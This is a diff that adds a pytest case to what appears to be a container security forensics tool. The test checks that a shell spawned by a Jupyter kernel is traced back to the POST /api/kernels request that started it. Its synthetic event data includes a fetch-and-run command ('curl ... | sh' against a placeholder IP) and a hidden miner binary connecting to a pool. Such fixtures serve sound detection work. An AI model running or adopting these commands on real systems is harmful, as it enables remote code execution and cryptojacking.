@@ -870,3 +870,24 @@ def test_a_program_the_entrypoint_of_a_rollouts_new_pods_starts_is_a_session(tmp
     assert set(entries["pod"]) == {"shop-api-new-bbbbb", "shop-api-new-ccccc"}
     assert set(entries["binary"]) == {"/usr/lib/.cache/updater"}
     c_.close()
+
+
+def test_a_kernel_started_by_a_request_and_running_a_shell_later_names_that_request(tmp_path):
+    # a notebook server starts a kernel on POST /api/kernels; the kernel runs the payload's shell
+    # 40 s later: the request before the shell is none, the one before the kernel is the trigger
+    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/bin/python3", "arguments": "-m jupyter lab"}
+    kernel, a = _run(20, server, "/usr/bin/python3", "-m ipykernel_launcher -f kernel-1.json",
+                     "2026-03-01T10:00:00.05Z", init=True)
+    sh, b = _run(21, _ref(kernel), "/bin/sh", "-c 'curl -sL http://198.51.100.23/x.sh | sh'",
+                 "2026-03-01T10:00:40Z", init=True)
+    miner, c = _run(22, _ref(sh), "/dev/shm/.kswapd", "-o pool.example:4444", "2026-03-01T10:00:41Z", init=True)
+    post = json.loads(_request_in(50001, "http://jupyter/api/kernels", "2026-03-01T10:00:00Z"))
+    post["flow"]["l7"]["http"]["method"] = "POST"
+    c_ = _case(tmp_path, [a, b, c, _connect(miner, _ref(sh), 41000, "203.0.113.50", 4444, "2026-03-01T10:00:42Z"),
+                          _alert_on(22, "Drop and execute new binary in container", "Critical", "2026-03-01T10:00:41.1Z"),
+                          json.dumps(post)])
+    f = H.derive_findings(c_)
+    assert [(t["http_method"], t["http_url"]) for t in f["triggers"]] == [("POST", "http://jupyter/api/kernels")]
+    assert any("just before the service process that started /bin/sh (/usr/bin/python3 -m ipykernel_launcher"
+               in n for n in f["notes"])
+    c_.close()
